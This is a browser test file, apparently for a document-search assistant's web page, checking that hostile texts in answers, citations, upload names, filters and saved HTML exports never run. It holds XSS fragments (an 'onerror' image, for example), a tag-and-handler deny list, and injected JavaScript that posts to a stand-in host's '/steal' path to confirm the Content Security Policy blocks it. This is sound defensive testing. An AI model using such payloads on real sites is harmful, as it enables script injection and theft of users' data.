"""Hostile texts wherever the page shows one: the browser asks nobody else, and runs nothing."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, FilePayload, Page, expect

from assistant.records import Answer, Article, Closest, Statement
from tests.web.conftest import PATIENCE_MS, Visit, serving, watch
from tests.web.fake_assistant import FakeAssistant, ferry_answer, hit_of, refusal, stand_in
from tests.web.hostile import EVERYTHING, HOSTILE

pytestmark = pytest.mark.browser

# What no text may become, in the parts of the page that show texts.
_PARTS = (
    "#log, #current, #sources-column, #shelves, #inside, #outcome, #summary, #told, "
    "#filters, #filters-set"
)
_TAGS = "script img iframe object embed video audio style link meta base math".split()


def article(number: int, text: str) -> Article:
    return Article(f"h{number}", text[:300], text, text, text, text, text)


def answer(question: str, texts: tuple[Article, ...]) -> Answer:
    """Cites one article for each text, with all of it as the quote."""
    if question == "refuse":
        closest = [Closest(a.id, a.title, a.source, a.text, 0, len(a.text)) for a in texts]
        return replace(refusal(question), text=EVERYTHING, closest=tuple(closest))
    said, statements, citations = "", [], []
    for number, held in enumerate(texts, start=1):
        start = len(said)
        said += f"{held.text}[{number}] "
        mark_end = len(said) - 1
        citation = replace(
            ferry_answer("").citations[0], number=number, article_id=held.id, title=held.title,
            source=held.source, quote=held.text, start=0, end=len(held.text), reason=held.text,
            mark_start=start + len(held.text), mark_end=mark_end,
        )  # fmt: skip
        citations.append(citation)
        statements.append(Statement(held.text, start, mark_end, (citation,), "supported"))
    hits = tuple(hit_of(held) for held in texts)
    return Answer(
        question, EVERYTHING, said, False, tuple(statements), tuple(citations), hits,
        model=EVERYTHING,
    )  # fmt: skip


def untouched(page: Page) -> None:
    for tag in _TAGS:
        assert page.locator(f":is({_PARTS}) {tag}").count() == 0, tag
    for handler in ("onerror", "onload", "onfocus", "ontoggle", "onclick"):
        assert page.locator(f":is({_PARTS}) [{handler}]").count() == 0, handler
    assert page.locator(f":is({_PARTS}) :is([href^=javascript], [style*=fixed])").count() == 0
    assert page.evaluate("window.taken") is None
    expect(page.locator("#tabs")).to_be_visible()


def test_there_are_forty_of_them() -> None:
    assert len(set(HOSTILE)) >= 40


@pytest.fixture
def armed(context: BrowserContext, tmp_path: Path) -> Iterator[Visit]:
    """A page over a library whose every text is hostile."""
    texts = tuple(article(number, text) for number, text in enumerate(HOSTILE))
    assistant = FakeAssistant(tmp_path, held=list(texts), model=EVERYTHING)
    assistant.reply = lambda question: answer(question, texts)
    with serving(stand_in(assistant)) as address:
        visit = Visit(context.new_page(), assistant, address)
        watch(visit)
        visit.open()
        yield visit
        assert visit.outside == []
        assert visit.errors == []


def test_answers_quotes_titles_and_names(armed: Visit) -> None:
    page = armed.page
    turn = armed.ask(EVERYTHING)
    marks = turn.locator("button.mark")
    expect(marks).to_have_count(len(HOSTILE))
    untouched(page)
    for number in range(0, len(HOSTILE), 6):
        marks.nth(number).click()
        expect(page.locator("#sources-column mark.opened")).to_be_visible()
        untouched(page)
    armed.ask("refuse")
    untouched(page)
    page.reload()
    expect(page.locator("#log .turn")).to_have_count(2)
    untouched(page)
    page.get_by_role("tab", name="Library").click()
    expect(page.locator("#listing tbody tr").first).to_be_visible()
    untouched(page)


def test_file_names_and_what_is_told_of_them(armed: Visit) -> None:
    page = armed.page
    page.get_by_role("tab", name="Library").click()
    names = [re.sub(r"[/\\\x00-\x1f]", " ", text).strip()[:200] + ".txt" for text in HOSTILE]
    page.locator("#uploads input[type=file]").set_input_files(
        [FilePayload(name=name, mimeType="text/plain", buffer=b"x\ny") for name in names]
    )
    expect(page.locator("#outcome li")).to_have_count(len(HOSTILE))
    untouched(page)
    page.get_by_role("tab", name="Sources").click()
    source = page.locator(".source").first
    source.get_by_role("button", name=re.compile("^Remove ")).click()
    untouched(page)


def test_what_the_filters_offer(armed: Visit) -> None:
    page = armed.page
    page.get_by_role("button", name="Filters").click()
    for name in ("Sources", "Sections", "Authors"):
        page.get_by_role("combobox", name=name).click()
        options = page.get_by_role("option")
        expect(options).to_have_count(len(HOSTILE))
        options.filter(has_text="onerror='window.taken = 1'").click()
        expect(page.locator("#filters-set")).to_contain_text("<img src=http://outside.test/a.png")
        untouched(page)
    armed.ask("Who?")
    untouched(page)


def test_a_conversation_that_was_saved_as_a_page(armed: Visit, tmp_path: Path) -> None:
    armed.ask(EVERYTHING)
    armed.ask("refuse")
    armed.page.locator("summary", has_text="Export").click()
    with armed.page.expect_download() as download:
        armed.page.get_by_role("button", name="HTML page").click()
    file = tmp_path / "saved.html"
    download.value.save_as(file)
    saved = Visit(armed.page.context.new_page(), armed.assistant, file.as_uri())
    watch(saved)
    saved.page.goto(saved.address)
    expect(saved.page.locator("section")).to_have_count(2)
    expect(saved.page.locator("section").first).to_contain_text(HOSTILE[0])
    assert saved.page.locator(f":is({', '.join(_TAGS)}):not(head > *)").count() == 0
    assert saved.page.evaluate("window.taken") is None
    assert saved.page.url == saved.address
    assert (saved.outside, saved.errors) == ([], [])


def test_the_policy_holds_where_escaping_would_fail(
    visit: Visit, bait: tuple[str, list[bytes]]
) -> None:
    """What a hole in the page would let in, put there by the test: the browser stops it."""
    place, asked = bait
    refused: list[str] = []
    visit.page.on("console", lambda message: refused.append(message.text))
    visit.page.evaluate(
        """(place) => {
          const hole = document.querySelector("#log");
          hole.innerHTML += `<img src=${place}/a.png>`
            + `<iframe src=${place}/f></iframe>`
            + `<link rel=stylesheet href=${place}/s.css>`
            + `<object data=${place}/o></object>`
            + `<video src=${place}/v></video>`;
          const script = document.createElement("script");
          script.src = place + "/x.js";
          document.body.append(script);
          fetch(place + "/steal", { method: "POST", body: "x" }).catch(() => {});
          navigator.sendBeacon(place + "/beacon");
          const form = document.createElement("form");
          form.action = place + "/form";
          document.body.append(form);
          form.submit();
        }""",
        f"http://{place}",
    )
    for _ in range(PATIENCE_MS // 100):
        if sum("Content Security Policy" in text for text in refused) < 7:
            visit.page.wait_for_timeout(100)
    visit.page.wait_for_timeout(500)
    assert sum("Content Security Policy" in text for text in refused) >= 7
    assert visit.page.url == visit.address
    assert asked == []
    # The browser tells of each request that it stopped.
    visit.errors.clear()
    visit.outside.clear()
